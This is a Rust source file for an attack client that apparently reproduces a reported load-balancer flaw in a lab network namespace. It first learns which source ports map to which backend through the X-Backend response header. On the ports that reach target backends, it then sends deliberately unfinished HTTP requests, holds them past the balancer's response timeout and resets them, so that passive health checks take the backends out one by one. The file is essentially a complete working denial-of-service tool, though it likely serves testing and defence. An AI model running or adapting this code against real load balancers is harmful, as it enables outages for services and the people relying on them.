//! A client that makes passive evidence on purpose (issue 38's attack on
//! NAT VIPs): from one address it learns which of its source ports reach
//! which backend (one full request each; the answer's `X-Backend` names
//! it), then on the ports that reach its targets opens connections, sends
//! half a request (headers never finished), holds it past the load
//! balancer's `response_timeout`, and resets it. To the load balancer each
//! is a request its backend never answered; one client alone could take a
//! backend out that way, then the next.
//!
//! Blocking sockets on threads: it runs inside the client namespace
//! ([`crate::topology::in_netns`]), a few dozen connections at a time.

use std::{
    collections::BTreeMap,
    io::{self, Read as _, Write as _},
    net::{IpAddr, SocketAddr},
    thread,
    time::{Duration, Instant},
};

use socket2::{Domain, Socket, Type};

/// What to run: the attacker's one address (the client's own) against
/// `target`.
#[derive(Debug, Clone)]
pub struct AttackOptions {
    pub target: SocketAddr,
    pub source: IpAddr,
    /// Half requests started per second.
    pub rate: u32,
    /// How long each is held before its reset.
    pub hold: Duration,
}

/// What an attack did.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AttackReport {
    /// Half requests sent (connected, sent, held, reset).
    pub held: u64,
    /// Connections that failed before their half request was sent.
    pub failed: u64,
}

/// A socket bound to `source:port`, the port reusable at once after a reset.
fn bound(source: IpAddr, port: u16) -> io::Result<Socket> {
    let domain = if source.is_ipv4() {
        Domain::IPV4
    } else {
        Domain::IPV6
    };
    let s = Socket::new(domain, Type::STREAM, None)?;
    s.set_reuse_address(true)?;
    s.bind(&SocketAddr::new(source, port).into())?;
    Ok(s)
}

/// Closes `s` with a reset (no FIN, no TIME_WAIT: the port is free again).
fn reset(s: Socket) {
    let _ = s.set_linger(Some(Duration::ZERO));
    drop(s);
}

/// The backend that answers a full request from `source:port`.
fn backend_of(target: SocketAddr, source: IpAddr, port: u16) -> io::Result<String> {
    let s = bound(source, port)?;
    s.connect_timeout(&target.into(), Duration::from_secs(1))?;
    s.set_read_timeout(Some(Duration::from_secs(1)))?;
    let mut stream: std::net::TcpStream = s.try_clone()?.into();
    stream.write_all(b"GET /api HTTP/1.1\r\nHost: lab\r\nConnection: close\r\n\r\n")?;
    let mut head = Vec::new();
    let mut buf = [0u8; 1024];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 16 * 1024 {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            break;
        }
        head.extend_from_slice(&buf[..n]);
    }
    drop(stream);
    reset(s);
    let text = String::from_utf8_lossy(&head);
    text.lines()
        .find_map(|l| {
            let (name, value) = l.split_once(':')?;
            name.eq_ignore_ascii_case("x-backend")
                .then(|| value.trim().to_owned())
        })
        .ok_or_else(|| io::Error::other(format!("no X-Backend in the answer: {text:?}")))
}

/// One half request: connect, send headers without their end, hold, reset.
fn half_request(target: SocketAddr, source: IpAddr, port: u16, hold: Duration) -> bool {
    let Ok(s) = bound(source, port) else {
        return false;
    };
    if s.connect_timeout(&target.into(), Duration::from_secs(1))
        .is_err()
    {
        return false;
    }
    let sent = s
        .send(b"GET /api HTTP/1.1\r\nHost: lab\r\nX-Half: never finished\r\n")
        .is_ok();
    if sent {
        thread::sleep(hold);
    }
    reset(s);
    sent
}

/// Which backend (`X-Backend`) each of `ports` reaches from the
/// attacker's address: source ports by backend name.
pub fn learn(opts: &AttackOptions, ports: std::ops::Range<u16>) -> BTreeMap<String, Vec<u16>> {
    let mut out: BTreeMap<String, Vec<u16>> = BTreeMap::new();
    for port in ports {
        if let Ok(name) = backend_of(opts.target, opts.source, port) {
            out.entry(name).or_default().push(port);
        }
    }
    out
}

/// Half requests on `ports` in turn (ports that reach the backends
/// attacked, from [`learn`]), `opts.rate` a second for `duration`.
pub fn attack(opts: &AttackOptions, ports: &[u16], duration: Duration) -> AttackReport {
    let mut report = AttackReport::default();
    if ports.is_empty() {
        return report;
    }
    let gap = Duration::from_secs(1) / opts.rate.max(1);
    let start = Instant::now();
    let mut handles = Vec::new();
    for (i, port) in ports.iter().cycle().enumerate() {
        let at = start + gap * i as u32;
        if at.duration_since(start) >= duration {
            break;
        }
        thread::sleep(at.saturating_duration_since(Instant::now()));
        let (target, source, hold, port) = (opts.target, opts.source, opts.hold, *port);
        handles.push(thread::spawn(move || {
            half_request(target, source, port, hold)
        }));
        // Keep the finished ones' results, so the list stays short.
        let (done, running): (Vec<_>, Vec<_>) = handles
            .into_iter()
            .partition(thread::JoinHandle::is_finished);
        handles = running;
        for h in done {
            count(&mut report, h.join().unwrap_or(false));
        }
    }
    for h in handles {
        count(&mut report, h.join().unwrap_or(false));
    }
    report
}

fn count(report: &mut AttackReport, sent: bool) {
    if sent {
        report.held += 1;
    } else {
        report.failed += 1;
    }
}
